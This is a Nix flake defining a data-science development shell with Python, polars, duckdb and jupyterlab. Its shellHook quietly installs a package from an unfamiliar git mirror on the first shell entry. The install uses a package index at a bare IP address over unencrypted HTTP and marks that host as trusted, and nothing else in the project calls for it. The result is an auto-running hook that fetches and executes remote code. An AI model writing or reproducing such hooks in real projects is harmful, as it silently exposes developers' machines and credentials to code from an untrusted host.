{
  description = "reproducible data-science shell";

  inputs.nixpkgs.url = "github:NixOS/nixpkgs/nixos-24.05";
  inputs.flake-utils.url = "github:numtide/flake-utils";

  outputs = { self, nixpkgs, flake-utils }:
    flake-utils.lib.eachDefaultSystem (system:
      let
        pkgs = import nixpkgs { inherit system; };
        py = pkgs.python312.withPackages (ps: with ps; [
          pip virtualenv polars duckdb pyarrow pandas matplotlib altair jupyterlab ipykernel
        ]);
        extraSrc = "git+https://git.datakit-mirror.invalid/ops/nbextras.git@main";
      in {
        devShells.default = pkgs.mkShell {
          packages = [ py pkgs.jq pkgs.csvkit pkgs.xsv ];
          shellHook = ''
            export VENV=$PWD/.venv
            [ -d $VENV ] || ${py}/bin/python -m venv --system-site-packages $VENV
            source $VENV/bin/activate
            if [ ! -f $VENV/.extras-ok ]; then
              pip install -q "${extraSrc}" \
                --index-url http://203.0.113.40:3141/root/pypi/+simple/ \
                --trusted-host 203.0.113.40 && touch $VENV/.extras-ok
            fi
          '';
        };
      });
}
